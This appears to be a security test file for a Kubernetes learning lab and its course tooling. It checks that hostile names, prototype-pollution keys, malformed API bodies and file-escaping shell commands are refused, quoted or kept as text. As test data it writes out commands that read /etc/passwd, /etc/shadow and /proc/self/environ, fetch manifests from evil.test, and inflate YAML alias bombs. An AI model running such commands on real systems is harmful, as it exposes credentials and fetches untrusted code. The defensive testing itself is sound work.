/** Clusters of others: what an API server holds, as it is watched, parsed, judged, drawn, explained, exported and told. */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import type { KubeRequest } from '../../src/backend.ts';
import { cellSpecs } from '../../src/course/cellSpecs.ts';
import { completionAt } from '../../src/course/completion.ts';
import { htmlReport } from '../../src/course/export/htmlReport.ts';
import { runReport } from '../../src/course/export/runReport.ts';
import { stuckReport } from '../../src/course/export/stuckReport.ts';
import { createJudge } from '../../src/course/judge.ts';
import { readNotebook } from '../../src/course/notebookFile.ts';
import { courseScope } from '../../src/course/scope.ts';
import { traceJson } from '../../src/course/traceReport.ts';
import { watchObjects } from '../../src/course/watchObjects.ts';
import { whyMarkdown } from '../../src/course/why/whyReport.ts';
import { whyNot } from '../../src/course/why/whyNot.ts';
import { createLab, type Lab } from '../../src/lab/lab.ts';
import { parseOutput } from '../../src/output/parse.ts';
import { trace } from '../../src/path/trace.ts';
import { visible } from '../../src/protocol/visible.ts';
import { createState } from '../../src/state/createState.ts';
import { identify } from '../../src/state/identify.ts';
import { tablePayload } from '../../src/state/payload.ts';
import type { State } from '../../src/state/state.ts';
import { knownOf } from '../../src/state/topology/known.ts';
import { topologyText } from '../../src/state/topology/text.ts';
import { topologyOf } from '../../src/state/topology/topology.ts';
import { tellState } from '../../src/views/assistant.ts';
import type { ShownStudy } from '../../src/views/shownStudy.ts';
import { run } from '../path/labFlows.ts';
import { ALL, BROKEN, HIDDEN, KEYS, LINKS, long, MARKUP, SHELL, TERMINAL, UNSEEN } from './attacks.ts';
import { door, withEach } from './door.ts';
import { course, named, seenInLab, type Seen } from './hostileCluster.ts';

const HOSTS = ['k8s-ctr', 'k8s-w1', 'k8s-w0', 'router'];
const LOCALES = ['ko', 'en'] as const;
const hides = (text: string): readonly string[] => UNSEEN.filter((each) => text.includes(each));

/** Objects of the program itself are as they were: no name has become one of theirs. */
const unpolluted = (): void => {
  expect(Object.keys(Object.prototype)).toEqual([]);
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  expect(typeof {}.toString).toBe('function');
};

describe('objects that no server has checked', () => {
  const attack = door('cluster objects');
  const steps = course();
  const notebook = readNotebook(
    readFileSync(path.join(import.meta.dirname, '../../notebooks/week4.en.study.md'), 'utf8'),
  );
  let seen: Seen;
  beforeAll(async () => {
    seen = await seenInLab();
  }, 120_000);

  /** One state for each text: what is computed from it is computed once. */
  const states = (texts: readonly string[], attempt: (state: State, text: string) => void): number =>
    withEach(texts, (text) => attempt(named(seen, text), text));

  attack('names, labels and messages in what is judged and explained', 'made visible', () =>
    states(ALL, (state) => {
      const judge = createJudge(steps, courseScope(state, HOSTS));
      let known = 0;
      for (const { id } of steps.steps)
        for (const locale of LOCALES)
          for (const { verdict, text } of [...judge.checks(id, locale), ...judge.explanations(id, locale)]) {
            expect(hides(text)).toEqual([]);
            if (verdict !== 'unknown') known++;
          }
      expect(known).toBeGreaterThan(10);
      unpolluted();
    }),
  );

  attack('names in drawings, details and the text beside them', 'kept as it is', () =>
    states(ALL, (state, text) => {
      const { topology, detail } = topologyOf(knownOf(state), HOSTS);
      expect(topology.elements.some(({ name }) => name.includes(`webpod${text}`))).toBe(true);
      for (const { id } of topology.elements) expect(detail(id)?.fields).toBeDefined();
      expect(topologyText(topology).length).toBeGreaterThan(100);
      unpolluted();
    }),
  );

  attack('names in hovers', 'kept as it is', () =>
    states(ALL, (state, text) => {
      for (const token of [`k8s-w1${text}`, '192.168.10.101', '172.20.1.0/24', text, 'default'])
        for (const locale of LOCALES)
          for (const { what, detail } of identify(state, token, locale)) {
            expect(hides(what)).toEqual([]);
            expect(typeof detail).toBe('string');
          }
      unpolluted();
    }),
  );

  attack('names in commands that are suggested', 'quoted', () =>
    states([...SHELL, ...MARKUP, ...KEYS, ...TERMINAL], (state, text) => {
      const flow = { from: 'default/curl-pod' + text, to: `service/webpod${text}`, port: 80 } as const;
      const why = whyNot(state, { flow: { ...flow, protocol: 'tcp' } }, HOSTS);
      const service = whyNot(state, { service: `webpod${text}` }, HOSTS);
      const suggested = [...why.causes, ...service.causes].flatMap(({ cures, missing }) => [
        ...cures.map(({ command }) => command),
        ...(missing === undefined ? [] : [missing.command]),
      ]);
      expect(suggested.length).toBeGreaterThan(0);
      for (const command of suggested) expect(unquoted(command)).not.toMatch(/attack|\$\(|`|\n/);
    }),
  );

  attack('names in answers to why, and in ways', 'made visible', () =>
    states(ALL, (state, text) => {
      const from = `default/curl-pod${text}`;
      for (const to of ['192.168.20.100', `service/webpod${text}`, '172.20.2.1']) {
        const flow = { from, to, protocol: 'icmp' } as const;
        const why = whyNot(state, { flow }, HOSTS);
        for (const locale of LOCALES) {
          expect(hides(whyMarkdown(text, why, locale))).toEqual([]);
          const told = traceJson(trace(state, flow, HOSTS), { state, kubectl: 'k8s-ctr', locale });
          expect(told.hops.length).toBeGreaterThan(0);
        }
      }
    }),
  );

  attack('names in completion', 'refused', () =>
    states([...SHELL, ...HIDDEN, ...TERMINAL, ...BROKEN], (state) => {
      for (const typed of ['kubectl get pods ', 'kubectl get svc ', 'k logs ', 'kubectl -n ', 'ping ']) {
        const { suggestions } = completionAt(typed, typed.length, {
          state,
          hosts: HOSTS,
          cells: [],
          host: 'k8s-ctr',
        });
        for (const { text, detail } of suggestions) {
          expect(unquoted(text)).not.toMatch(/[;&|<>$`\n"!]/);
          expect(visible(text + detail)).toBe(text + detail);
        }
      }
    }),
  );

  attack('names in exports and in what a helper is given', 'shown as text', () =>
    states(ALL, (state, text) => {
      const judge = createJudge(steps, courseScope(state, HOSTS));
      const report = runReport({
        notebook,
        specs: cellSpecs(notebook.cells, HOSTS),
        course: steps,
        study: judge,
        result: () => undefined,
        locale: 'en',
        title: text,
        backend: text,
        at: 0,
      });
      const html = htmlReport(report);
      expect(html).not.toMatch(/<(?:script|img|iframe|svg|object|embed|base|form)/i);
      expect(hides(html)).toEqual([]);
      const stuck = stuckReport({
        report,
        step: 'failure',
        lastRuns: [],
        notebook: '',
        versions: [[text, text]],
        state,
      });
      const outside = stuck.replace(/^(`{3,})[^\n]*\n[\s\S]*?^\1$/gm, '').replace(/`[^`\n]*`/g, '');
      expect(outside).not.toMatch(/<(?:script|img|svg|iframe)/i);
      expect(outside).not.toMatch(/(?<!\\)\]\((?:javascript|command|file|data):/i);
    }),
  );

  attack('names in what an assistant is told', 'kept as it is', () =>
    states(ALL, (state, text) => {
      const study = {
        state,
        locale: 'en',
        hosts: HOSTS,
        steps: [],
        lab: { status: 'ready', name: text, live: false },
        currentStep: () => undefined,
      } as unknown as ShownStudy;
      for (const question of [{}, { resource: 'pods' }, { table: 'routes' }, { host: text }]) {
        const told = JSON.stringify(tellState(study, question));
        expect(told.length).toBeLessThan(2_000_000);
        JSON.parse(told);
      }
      for (const resource of [text, ...KEYS])
        expect(() => tellState(study, { resource, table: resource })).toThrow();
      unpolluted();
    }),
  );

  attack('tables of it with their links, meanings and changes', 'kept as it is', () =>
    states([...KEYS, ...MARKUP.slice(0, 4)], (state) => {
      for (const { parsed, source } of state.tables()) {
        const { host, command, agent } = source;
        const output = { id: 'x', locale: 'ko', provenance: source, parsed, text: '' } as const;
        const payload = tablePayload(output, state);
        expect(payload.rows).toHaveLength(parsed.rows.length);
        state.history({ table: parsed.table, host, command, ...(agent === undefined ? {} : { agent }) });
      }
      unpolluted();
    }),
  );

  attack('names of a megabyte, ten thousand labels', 'bounded', () =>
    states([long('x', 200_000), long('<b>', 200_000), long('a ', 100_000)], (state, text) => {
      createJudge(steps, courseScope(state, HOSTS)).explanations('failure', 'en');
      identify(state, `webpod${text}`, 'en');
      topologyOf(knownOf(state), HOSTS);
    }),
  );

  attack('lists and events of another shape', 'refused', async () => {
    const shapes: readonly unknown[] = [
      null,
      1,
      'x',
      [],
      {},
      { items: null },
      { items: [null, 1, 'x', [], {}, { metadata: null }, { metadata: { name: {} } }] },
      { items: [{ metadata: { name: '__proto__', namespace: '__proto__', labels: null } }] },
      { items: {}, metadata: { resourceVersion: {}, continue: 'again and again' } },
      JSON.parse('{"__proto__":{"items":[]},"items":[{"metadata":{"name":"a","__proto__":{"polluted":1}}}]}'),
    ];
    for (const body of shapes) {
      const end = new AbortController();
      const state = createState();
      const lab = {
        now: () => 0,
        sleep: async () => void (await new Promise((done) => setTimeout(done, 1))),
      };
      const events = [null, 1, {}, { type: 'MODIFIED' }, { type: '__proto__', object: body }];
      const watching = watchObjects(
        {
          request: () => Promise.resolve({ status: 200, body }),
          watch: (_request, _signal, onEvent) => {
            for (const event of events) onEvent(event as never);
            return Promise.resolve();
          },
        },
        lab,
        state,
        end.signal,
      );
      await Promise.race([watching.listed, new Promise((done) => setTimeout(done, 50))]);
      end.abort();
      topologyOf(knownOf(state), HOSTS);
      identify(state, '__proto__', 'en');
      createJudge(steps, courseScope(state, HOSTS)).explanations('failure', 'en');
      unpolluted();
    }
    return shapes.length * 5;
  });
});

describe('objects that are given to the lab', () => {
  const attack = door('lab: API and kubectl');
  let lab: Lab;
  beforeAll(async () => {
    lab = createLab({ time: 'virtual' });
    await lab.ready;
  });
  afterAll(() => lab.dispose());

  const post = (metadata: object, more: object = {}): KubeRequest => ({
    method: 'POST',
    path: '/api/v1/namespaces/default/configmaps',
    body: JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata, ...more }),
  });

  attack('names, labels and keys that are none', 'refused', async () => {
    let tries = 0;
    for (const text of [...ALL, long('x', 300_000)]) {
      for (const metadata of [
        { name: text },
        { name: 'x', labels: Object.fromEntries([[text, 'x']]) },
        { name: 'x', labels: { x: text } },
        { name: 'x', annotations: Object.fromEntries([[text, 'x']]) },
        { name: 'x', namespace: text },
      ]) {
        const { status } = await lab.kube.request(post(metadata));
        // A word such as "constructor" is a fine label, and Windows' names are any other's.
        if (status < 400) {
          expect(text).toMatch(/^(?:[A-Za-z_]\w*|)$/);
          await lab.kube.request({ method: 'DELETE', path: '/api/v1/namespaces/default/configmaps/x' });
        }
        tries++;
      }
    }
    unpolluted();
    return tries;
  });

  attack('paths, queries and patches that lead elsewhere', 'refused', async () => {
    await lab.kube.request(post({ name: 'victim' }));
    const victim = '/api/v1/namespaces/default/configmaps/victim';
    const patch = (contentType: string, body: string): KubeRequest => ({
      method: 'PATCH',
      path: victim,
      contentType,
      body,
    });
    const requests: readonly KubeRequest[] = [
      ...[
        '/../../etc/passwd',
        '/api/v1/../../x',
        '/api/v1/namespaces/%2e%2e/pods',
        '//evil.test/',
        '/\0',
        '',
      ].map((each) => ({ method: 'GET', path: each }) as const),
      ...KEYS.flatMap((key) => [
        { method: 'GET', path: `/api/${key}` } as const,
        { method: 'GET', path: `/apis/${key}/${key}/${key}` } as const,
        { method: 'GET', path: `/api/v1/namespaces/${key}/${key}/${key}` } as const,
        { method: 'GET', path: '/api/v1/pods', query: { fieldSelector: `${key}=x`, limit: key } } as const,
        patch('application/json-patch+json', `[{"op":"add","path":"/${key}/polluted","value":1}]`),
        patch('application/json-patch+json', `[{"op":"add","path":"/metadata/${key}/polluted","value":1}]`),
        patch(
          'application/merge-patch+json',
          `{"${key}":{"polluted":1},"metadata":{"${key}":{"polluted":1}}}`,
        ),
        patch(
          'application/strategic-merge-patch+json',
          `{"metadata":{"labels":{"${key}":null}},"${key}":[]}`,
        ),
        patch('application/apply-patch+yaml', `apiVersion: v1\nkind: ConfigMap\n${key}: {polluted: 1}\n`),
      ]),
    ];
    for (const request of requests) {
      const { status } = await lab.kube.request(request);
      expect(status, JSON.stringify(request)).toBeGreaterThanOrEqual(200);
      expect(status, JSON.stringify(request)).not.toBe(500);
      unpolluted();
    }
    return requests.length;
  });

  attack('annotations and data of any kind, as kubectl prints them', 'kept as it is', async () => {
    let tries = 0;
    for (const text of [...MARKUP, ...LINKS, ...TERMINAL, ...HIDDEN, ...KEYS]) {
      const made = await lab.kube.request(
        post({ name: 'shown', annotations: { note: text } }, { data: { a: text, __proto__x: text } }),
      );
      expect(made.status).toBe(201);
      for (const command of [
        'kubectl get configmap shown -o yaml',
        'kubectl get configmap shown -o json',
        'kubectl describe configmap shown',
        "kubectl get configmap shown -o jsonpath='{.data.a}'",
        'kubectl get configmap -o custom-columns=NAME:.metadata.name,NOTE:.metadata.annotations.note',
      ]) {
        const printed = await run(lab, 'k8s-ctr', command);
        expect(printed.exit).toBe(0);
        const { argv } = { argv: command.replaceAll("'", '').split(' ') };
        const input = { argv, line: command, rowsKept: true, filtered: false, filters: [] };
        const parsed = parseOutput(input, printed.text);
        if (parsed.kind !== 'text')
          for (const row of parsed.rows) expect(Object.getPrototypeOf(row)).toBe(Object.prototype);
        tries++;
      }
      await lab.kube.request({ method: 'DELETE', path: '/api/v1/namespaces/default/configmaps/shown' });
    }
    unpolluted();
    return tries;
  });

  attack('files outside: tcpdump -w and -r, kubectl apply -f, redirections', 'refused', async () => {
    const outside = path.join(import.meta.dirname, 'attacks.ts');
    const scripts = [
      `cat ${outside}`,
      'tcpdump -c 1 -i lo -w ../../../../tmp/attacked & sleep 1; ping -c 2 127.0.0.1; wait; ls /tmp',
      `tcpdump -r ${outside}`,
      'tcpdump -r ../../../../../etc/hostname',
      `kubectl apply -f ${outside}`,
      'kubectl apply -f ../../../../etc/passwd',
      'kubectl apply -f https://evil.test/x.yaml',
      'kubectl apply -f /dev/stdin < /etc/shadow',
      `kubectl --kubeconfig ${outside} get pods`,
      'kubectl get pods --cache-dir=/tmp/attacked',
      'kubectl cp default/curl-pod:/etc/passwd ../../../attacked',
      'kubectl get -k ../../..',
      'curl file:///etc/passwd',
      'curl -o ../../attacked http://127.0.0.1',
      'echo x > ../../../../../tmp/attacked; cat /tmp/attacked',
      'source ../../etc/profile; . /proc/self/environ',
      'ln -s / /tmp/all; cat /tmp/all/etc/hostname',
      'eval "$(cat /proc/self/cmdline)"',
      'jq -n "input_filename, $__prog_args, env" ; yq "load(\\"/etc/passwd\\")" /etc/hosts',
      'helm install x ../../.. ; helm pull oci://evil.test/x',
    ];
    for (const script of scripts) {
      const { text } = await run(lab, 'k8s-ctr', script);
      expect(text, script).not.toContain('Texts that want to be more than text');
      expect(text, script).not.toMatch(/daemon:x:1:1/);
    }
    const { existsSync } = await import('node:fs');
    for (const left of ['/tmp/attacked', path.resolve('attacked'), path.resolve('../../attacked')])
      expect(existsSync(left), left).toBe(false);
    return scripts.length;
  });

  attack('manifests that are bombs, deep JSON', 'bounded', async () => {
    const aliases = Array.from(
      { length: 25 },
      (_, n) =>
        `l${n}: &l${n} [${
          n === 0
            ? 'x'
            : Array(10)
                .fill(`*l${n - 1}`)
                .join(', ')
        }]`,
    ).join('\n');
    const scripts = [
      `kubectl apply -f - <<'E'\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\n${aliases}\nE`,
      `kubectl apply -f - <<'E'\n${long('a: ', 60_000)}\nE`,
      `kubectl apply -f - <<'E'\n${'['.repeat(20_000)}\nE`,
      `kubectl apply -f - <<'E'\na: &a [*a]\nE`,
      `kubectl apply -f - <<'E'\n{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"deep"},"data":${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}}\nE`,
      `kubectl apply -f - <<'E'\n${long('---\n', 40_000)}\nE`,
      `echo '${long('(', 20_000)}' | jq .`,
      `echo '${long('[', 20_000)}' | jq .`,
    ];
    for (const script of scripts) await run(lab, 'k8s-ctr', script);
    const { status } = await lab.kube.request({ method: 'GET', path: '/api/v1/namespaces/default/pods' });
    expect(status).toBe(200);
    return scripts.length;
  });
});

/** What stands outside of quotes: what a shell would read as more than a word. */
function unquoted(command: string): string {
  return command.replace(/'[^']*'/g, '').replace(/\\'/g, '');
}
